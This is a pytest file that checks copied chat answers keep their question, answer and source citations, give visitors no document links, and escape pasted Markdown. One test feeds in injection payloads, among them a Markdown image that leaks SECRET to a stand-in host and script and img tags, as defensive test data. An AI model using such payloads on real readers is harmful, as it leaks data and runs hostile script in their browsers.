"""What is copied of an answer holds its sources, and does nothing where it is pasted."""

import uuid

import pytest
from hypothesis import given
from hypothesis import strategies as st

from altiplano.runs.conversations import Turn
from altiplano.runs.interfaces.chat_routes import ChatRoutes
from altiplano.runs.interfaces.copies import as_markdown, as_text
from altiplano.runs.models import Answer, Citation, Run

DOCUMENT = uuid.UUID("0192f3c4-0000-7000-8000-000000000001")
MEMBER = ChatRoutes(
    new="/", ask="/", run="/{run}/", events="/{run}/events", cancel="/{run}/cancel",
    source="/runs/{run}/sources/{document}/", document="/documents/{document}/",
)  # fmt: skip
VISITOR = ChatRoutes(
    new="/", ask="/", run="/{run}/", events="/{run}/events", cancel="/{run}/cancel",
    source="/runs/{run}/sources/{document}/",
)  # fmt: skip


def turn(text: str, *, name: str = "guide.pdf", quote: str = "A year\nor so.") -> Turn:
    citation = Citation(
        n=1, document_id=DOCUMENT, document_name=name, page=2, start=40, end=70, quote=quote,
        answer_start=0, answer_end=16,
    )  # fmt: skip
    return Turn(run=Run(question="How long?"), answer=Answer(text=text), citations=(citation,))


def absolute(address: str) -> str:
    return f"https://alti.example{address}"


def copied(write, one: Turn, routes: ChatRoutes = MEMBER) -> str:
    return write(one, routes.of_run(one.run.id), absolute)


def test_text_holds_question_answer_and_where_it_comes_from():
    assert copied(as_text, turn("It takes a year. **Turn** it.")) == (
        "How long?\n\nIt takes a year. [1] Turn it.\n\nSources\n"
        "[1] guide.pdf, page 2: “A year or so.”\n"
        f"    https://alti.example/documents/{DOCUMENT}/?start=40&end=70#passage"
    )


def test_markdown_holds_the_signs_and_links_to_the_document():
    text = copied(as_markdown, turn("It takes a year. **Turn** it."))
    assert text.startswith("> How long?\n\nIt takes a year. [1] **Turn** it.")
    assert f"1. [guide.pdf, page 2](<https://alti.example/documents/{DOCUMENT}/?" in text


@pytest.mark.parametrize("write", [as_text, as_markdown])
def test_reader_who_may_not_open_documents_is_given_no_address(write):
    assert "https://" not in copied(write, turn("It takes a year."), VISITOR)


@pytest.mark.parametrize(
    "attack",
    ["![x](https://e.example/?q=SECRET)", "![x][1]", "<img src=x>", "<script>alert(1)</script>"],
)
def test_markdown_loads_and_runs_nothing_where_it_is_pasted(attack):
    for one in (turn(attack), turn("Yes.", name=attack), turn("Yes.", quote=attack)):
        text = copied(as_markdown, one)
        assert "![" not in text.replace("!\\[", "")
        assert "<img" not in text.replace("\\<img", "")
        assert "<script" not in text.replace("\\<script", "")


@given(st.text(max_size=80), st.text(max_size=30), st.text(max_size=30))
def test_copies_can_be_made_of_whatever_was_said(text, name, quote):
    one = turn(text, name=name, quote=quote)
    for write in (as_text, as_markdown):
        assert copied(write, one).startswith(("How long?", "> How long?"))
